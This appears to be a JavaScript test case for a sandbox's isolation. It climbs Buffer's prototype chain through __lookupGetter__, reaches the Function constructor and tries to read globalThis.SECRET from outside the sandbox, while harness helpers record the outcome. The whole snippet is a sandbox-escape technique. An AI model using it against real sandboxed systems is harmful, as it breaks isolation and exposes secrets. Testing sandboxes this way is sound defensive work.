const up = Buffer.apply.apply({}.__lookupGetter__, [Buffer, ['__proto__']]);
const dig = (value, depth) => {
  if (value === null || depth > 3 || !['object', 'function'].includes(typeof value)) return;
  if (typeof value === 'function') {
    const secret = value('return globalThis.SECRET')();
    if (secret) emit(secret);
  } else {
    for (const key of Reflect.ownKeys(value)) dig(value[key], depth + 1);
  }
};
at_step();
let top = Buffer.of();
for (let step = 0; step < 4 && up.call(top); step += 1) top = up.call(top);
const target = up.call(Buffer.from);
for (const name of ['getOwnPropertyDescriptor', 'getOwnPropertyDescriptors', 'entries']) {
  try {
    const found = top.constructor[name](target, 'constructor');
    dig(found, 0);
    dig(top.constructor.entries(found), 0);
    dig(top.constructor.assign([], found), 0);
  } catch (error) {
    caught(error);
  }
}
past_step();
